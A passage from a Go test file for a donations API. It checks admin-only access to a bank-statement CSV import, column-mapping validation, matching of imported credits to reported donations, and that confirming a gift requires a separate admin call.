		r := e.call("POST", "/api/donations", validDonation(), "")
		if r.Status != 201 {
			t.Fatalf("report: %s", r.Raw)
		}
		id := r.Body["donation"].(map[string]any)["_id"].(string)

		body, ct := multipartBody(t, statementCSV, nil)
		if r := e.upload("/api/admin/donations/import/headers", "", body, ct); r.Status != 401 {
			t.Fatalf("visitor: %d", r.Status)
		}
		r = e.upload("/api/admin/donations/import/headers", admin, body, ct)
		m, _ := r.Body["mapping"].(map[string]any)
		if r.Status != 200 || m["date"] != "Date" || m["credit"] != "Deposit Amt." || len(r.Body["headers"].([]any)) != 7 {
			t.Fatalf("headers: %d %s", r.Status, r.Raw)
		}
		if r := e.upload("/api/admin/donations/import/headers", admin, "x", "multipart/form-data; boundary=zz"); r.Status != 400 || r.fieldErrors()["file"] == nil {
			t.Fatalf("no file: %d %s", r.Status, r.Raw)
		}
		empty, ect := multipartBody(t, " ", nil)
		if r := e.upload("/api/admin/donations/import/headers", admin, empty, ect); r.Status != 400 || r.fieldErrors()["file"] == nil {
			t.Fatalf("empty file: %d %s", r.Status, r.Raw)
		}

		// A mapping that names a missing column is refused by field.
		bad, _ := json.Marshal(map[string]string{"date": "Txn Date", "credit": "Deposit Amt."})
		body, ct = multipartBody(t, statementCSV, map[string]string{"mapping": string(bad)})
		if r := e.upload("/api/admin/donations/import", admin, body, ct); r.Status != 400 || len(r.fieldErrors()) == 0 {
			t.Fatalf("bad mapping: %d %s", r.Status, r.Raw)
		}
		// Import: one match by reference and amount, one credit unmatched,
		// one line that could not be read; nothing confirmed.
		mapping, _ := json.Marshal(m)
		body, ct = multipartBody(t, statementCSV, map[string]string{"mapping": string(mapping)})
		r = e.upload("/api/admin/donations/import", admin, body, ct)
		if r.Status != 200 {
			t.Fatalf("import: %d %s", r.Status, r.Raw)
		}
		matches, _ := r.Body["matches"].([]any)
		unmatched, _ := r.Body["unmatched"].([]any)
		problems, _ := r.Body["problems"].([]any)
		if len(matches) != 1 || len(unmatched) != 1 || len(problems) != 1 {
			t.Fatalf("import answer: %s", r.Raw)
		}
		match := matches[0].(map[string]any)
		if match["donation"].(map[string]any)["_id"] != id || match["date"] != "2025-02-21" || match["amount"] != "5000.50" || len(match["reasons"].([]any)) == 0 {
			t.Fatalf("match: %v", match)
		}
		if d, _ := st.DonationByID(context.Background(), id); d.Status != "reported" {
			t.Fatal("the import confirmed a gift by itself")
		}
		// The mapping is remembered for the next file.
		if saved, _ := st.BankMapping(context.Background()); !strings.Contains(saved, "Deposit Amt.") {
			t.Fatalf("mapping not remembered: %q", saved)
		}
		// Accepting the match is the confirm call with the row's values.
		if r := e.call("POST", "/api/admin/donations/"+id+"/confirm", map[string]any{"receivedOn": match["date"], "amount": match["amount"]}, admin); r.Status != 200 {
			t.Fatalf("accept: %s", r.Raw)
		}
	})
}
